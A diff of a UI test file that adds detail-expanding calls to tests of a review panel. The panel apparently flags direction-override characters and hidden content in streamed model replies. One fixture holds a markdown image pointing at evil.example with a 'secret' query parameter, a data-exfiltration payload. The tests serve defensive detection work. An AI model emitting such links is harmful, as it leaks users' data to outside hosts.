@@ -12,6 +12,7 @@ test("a request is looked through, and what nobody sees is taken out", async ({ 
     streamsText(["See ![x](https://evil.example/?d=secret) for more."]),
   );
   const asked = server.ask(question(TEXT));
+  await desk.allDetails();
   const panel = desk.review;
   await expect(panel.getByRole("group", { name: "Characters" })).toContainText(
     "Direction override",
@@ -58,6 +59,7 @@ test("characters of direction, drawn as boxes, push nothing beyond the edge of t
       const most = Math.max(...texts.map((one) => one.getBoundingClientRect().right));
       return texts.length < 9 ? Infinity : most - right;
     });
+  await desk.allDetails();
   // What is short is measured; of what is long the characters are counted.
   for (const [words, text] of [
     ["Summarise this page", DIRECTED],
